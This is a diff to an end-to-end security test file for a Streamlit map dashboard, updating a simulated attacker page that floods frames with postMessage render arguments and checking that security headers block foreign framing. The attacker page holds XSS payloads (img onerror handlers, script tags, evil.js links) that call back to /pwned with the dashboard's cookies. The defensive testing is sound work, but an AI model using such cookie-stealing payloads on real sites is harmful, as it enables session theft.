@@ -13,8 +13,8 @@ from tests.e2e.browser import MAP_FRAME, alerts, map_frame, wait_for_app, wait_f
 from ui.server import SECURITY_HEADERS
 
 # The attacker's page. It posts, every few milliseconds, to the opened window and to every frame inside it:
-# the render arguments of our map (a layer and a Leaflet of its own) and of streamlit-folium (a script to
-# evaluate). Anything that succeeds calls back to /pwned with the dashboard's cookies.
+# the render arguments of our old map component (a layer and a Leaflet of its own) and of streamlit-folium,
+# which renders the map now (a map script, a feature group script and links to load). Anything that succeeds calls back to /pwned with the dashboard's cookies.
 ATTACK_PAGE = """<!doctype html>
 <html><body>
 <button id="open">open</button>
@@ -30,6 +30,8 @@ function hostile() {
       day: 17500, lo: 17000, hi: 18000, changes: [], revision: 99, height: 300, tiles: "none",
       script: steal, html: "<img src=x onerror=\\"" + steal + "\\">", id: "evil", zoom: 5,
       fig: "<script>" + steal + "<\\/script>",
+      feature_group: steal, layer_control: steal, js_links: [home + "/evil.js"], css_links: [home + "/evil.css"],
+      header: "<img src=x onerror=\\"" + steal + "\\">", returned_objects: [], width: 300,
     },
   };
 }
@@ -97,7 +99,8 @@ def _stolen(requests: list[str]) -> list[str]:
 
 
 def test_every_response_carries_the_headers_that_cut_a_foreign_page_off(app_url):
-    for path in ("/", "/app/static/vendor/leaflet/dist/leaflet.js", "/_stcore/health"):
+    for path in ("/", "/app/static/vendor/leaflet/dist/leaflet.js", "/app/static/folium_control/control_link.js",
+                 "/_stcore/health"):
         with urllib.request.urlopen(app_url + path, timeout=10) as response:
             for name, value in SECURITY_HEADERS.items():
                 assert response.headers.get(name) == value, (path, name, response.headers.get(name))
@@ -152,27 +155,3 @@ def test_another_site_cannot_frame_the_dashboard(browser, app_url, offline):
                 assert frame.locator("[data-testid='stApp']").count() == 0
     finally:
         context.close()
-
-
-def test_the_map_frame_ignores_render_messages_not_sent_by_its_page(page, app_url):
-    """Our own handler, apart from the headers: a message from any window but the framing page is ignored,
-    even from a frame of the same origin."""
-    page.goto(app_url + "/?date=2017-11-09")
-    wait_for_app(page)
-    frame = map_frame(page)
-    wait_for_town(frame, "albu-kamal", status="held", force="SYRIAN_GOV")
-    # A same-origin window that is not the map's parent (a popup of the map frame itself) posts a render
-    # that would move the map to 2019-03-01 on its own layer, were it obeyed.
-    frame.evaluate("""() => {
-        const layer = performance.getEntriesByType("resource").map(e => e.name)
-            .map(name => new URL(name).pathname).find(path => path.startsWith("/app/static/layers/")).replace(/\\.gz$/, "");
-        const day = Date.UTC(2019, 2, 1) / 86400000;
-        const other = window.open("about:blank");
-        other.eval(`opener.postMessage({isStreamlitMessage: true, type: "streamlit:render", args: {
-            layer_url: "${layer}", day: ${day}, lo: ${day - 1000}, hi: ${day + 10}, revision: 42, height: 400}}, "*")`);
-        other.close();
-    }""")
-    page.wait_for_timeout(1000)  # a message is handled at once; nothing to wait on when it is ignored
-    assert frame.evaluate("() => window.controlMap.day()") == "2017-11-09"
-    assert frame.locator("#problem").is_hidden()
-    assert MAP_FRAME in frame.url
